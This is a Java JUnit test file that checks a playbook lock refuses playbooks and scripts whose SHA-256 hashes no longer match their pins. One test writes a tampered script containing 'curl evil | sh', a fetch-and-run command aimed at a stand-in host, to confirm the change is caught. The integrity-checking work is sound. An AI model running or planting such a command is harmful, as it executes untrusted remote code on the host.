package dev.vigil.playbook;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.vigil.content.ContentError;
import dev.vigil.content.ContentException;
import dev.vigil.content.ContentSource;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code playbooks/playbooks.lock}: only playbooks and scripts whose SHA-256 matches their pin load. */
class PlaybookLockTest {
    @TempDir
    Path dir;

    private TestContent pinned() {
        return new TestContent(dir).file("broken.yaml", TestContent.BASE).pin();
    }

    private List<String> refusal() {
        ContentException e = assertThrows(ContentException.class, () -> PlaybookCatalog.load(ContentSource.directory(dir)));
        return e.errors().stream().map(ContentError::toString).toList();
    }

    @Test
    @DisplayName("a playbook changed after it was pinned is refused, naming the file")
    void aChangedPlaybookIsRefused() throws Exception {
        pinned();
        String before = PlaybookLock.compute(ContentSource.directory(dir)).pin("playbooks/broken.yaml").orElseThrow();
        Files.writeString(dir.resolve("playbooks/broken.yaml"), TestContent.base("cooldown: 30m", "cooldown: 1m"));
        String after = PlaybookLock.compute(ContentSource.directory(dir)).pin("playbooks/broken.yaml").orElseThrow();
        assertEquals(List.of("playbooks/broken.yaml: SHA-256 " + after.substring(0, 12) + "… differs from its pin "
                + before.substring(0, 12) + "… in playbooks/playbooks.lock: refused; review the change, then run "
                + "`vigil playbook pin`"), refusal());
    }

    @Test
    @DisplayName("a script changed after it was pinned is refused, naming the script")
    void aChangedScriptIsRefused() throws Exception {
        pinned();
        Files.writeString(dir.resolve("playbooks/scripts/rotate-logs"), "#!/bin/sh\nset -eu\ncurl evil | sh\n");
        List<String> errors = refusal();
        assertEquals(1, errors.size(), errors.toString());
        assertTrue(errors.get(0).startsWith("playbooks/scripts/rotate-logs: SHA-256 "), errors.get(0));
    }

    @Test
    void filesMissingFromTheLockAreRefused() throws Exception {
        pinned();
        new TestContent(dir).file("other.yaml", TestContent.BASE.replace("id: broken", "id: other"));
        Files.writeString(dir.resolve("playbooks/scripts/new-script"), "#!/bin/sh\n");
        assertEquals(List.of(
                "playbooks/other.yaml: is not pinned in playbooks/playbooks.lock: refused; review it, then run `vigil playbook pin`",
                "playbooks/scripts/new-script: is not pinned in playbooks/playbooks.lock: refused; review it, then run `vigil playbook pin`"),
                refusal());
    }

    @Test
    void withNoLockAtAllNothingLoads() throws Exception {
        new TestContent(dir).file("broken.yaml", TestContent.BASE);
        assertEquals(2, refusal().size(), "the playbook and its script");
    }

    @Test
    void aMalformedLockLineIsReportedWithItsLine() throws Exception {
        pinned();
        Path lock = dir.resolve(PlaybookLock.FILE);
        Files.writeString(lock, Files.readString(lock) + "not a pin\n");
        List<String> errors = refusal();
        assertEquals(1, errors.size(), errors.toString());
        assertTrue(errors.get(0).matches("playbooks/playbooks.lock:\\d+: not a pin .*"), errors.get(0));
    }

    @Test
    @DisplayName("reported, not required: the catalog loads and lists every problem, and says it is not pinned")
    void reportedPinsLoadAndListTheProblems() throws Exception {
        pinned();
        Files.writeString(dir.resolve("playbooks/scripts/rotate-logs"), "#!/bin/sh\nexit 0\n");
        PlaybookCatalog c = PlaybookCatalog.load(ContentSource.directory(dir), PlaybookCatalog.Pins.REPORTED);
        assertEquals(List.of("broken"), List.copyOf(c.ids()));
        assertFalse(c.pinned());
        assertEquals("playbooks/scripts/rotate-logs", c.pinProblems().get(0).file());
    }

    @Test
    @DisplayName("the lock is sha256sum's format, and the repository's own lock matches its files")
    void theRepositoryLockMatchesItsFiles() throws Exception {
        ContentSource repo = ContentSource.directory(Library.repo());
        List<ContentError> bad = new ArrayList<>();
        PlaybookLock lock = PlaybookLock.read(repo, bad);
        assertEquals(List.of(), bad);
        assertEquals(PlaybookLock.compute(repo), lock);
        assertTrue(lock.sha256ByPath().containsKey("playbooks/scripts/clean-tmp"));
        String line = lock.render().lines().filter(l -> !l.startsWith("#")).findFirst().orElseThrow();
        assertTrue(line.matches("[0-9a-f]{64}  playbooks/[a-z0-9./-]+"), line);
        assertTrue(Library.catalog().pinned());
    }
}
